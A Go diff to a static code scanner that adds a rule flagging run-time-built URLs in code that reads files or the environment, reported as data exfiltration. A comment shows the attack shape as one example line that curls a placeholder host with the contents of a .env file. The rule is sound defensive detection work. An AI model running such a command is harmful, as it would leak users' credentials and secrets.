@@ -145,7 +145,39 @@ func (s *interpScan) read(call interpCall) {
 	if l, ok := call.literal(0); ok {
 		t += " " + Host(l.val)
 	}
+	if u, ok := s.builtURL(call); ok {
+		// FINDINGS-5 L12: the shape of curl "http://h/?q=$(cat .env)".
+		s.write("interp.net.exfil", s.who+" code fetches a URL built at run time ("+Clip(u)+") and reads a file or the environment: the URL carries that data out")
+		return
+	}
 	s.r.Reads = append(s.r.Reads, Clip(t))
+}
+
+// builtURL returns the first argument of a fetch when it is a URL built
+// at run time (a literal "http://…" joined to or interpolating an
+// expression) in code that reads a file or the environment, which the
+// URL may then carry.
+func (s *interpScan) builtURL(call interpCall) (string, bool) {
+	if len(call.args) == 0 {
+		return "", false
+	}
+	a := call.args[0]
+	built := a.lit == nil && strings.Contains(a.text, "://") || a.lit != nil && a.lit.interp && strings.Contains(a.lit.val, "://")
+	if !built {
+		return "", false
+	}
+	for _, tok := range []string{"open(", "file_get_contents(", "fopen(", "file(", "readFileSync", "readFile(", "readTextFile",
+		"File.read", "IO.read", "read_file", "readLines(", "readline", "io.open", "io.lines", "slurp", "getenv", "environ",
+		"ENV[", "process.env", "Deno.env", "$_ENV", "Path(", "Bun.file"} {
+		n := strings.Count(s.code.src, tok)
+		if tok == call.name+"(" {
+			n-- // the fetch itself (file_get_contents of the URL)
+		}
+		if n > 0 {
+			return a.text, true
+		}
+	}
+	return "", false
 }
 
 // target renders the first argument of a call for a message.
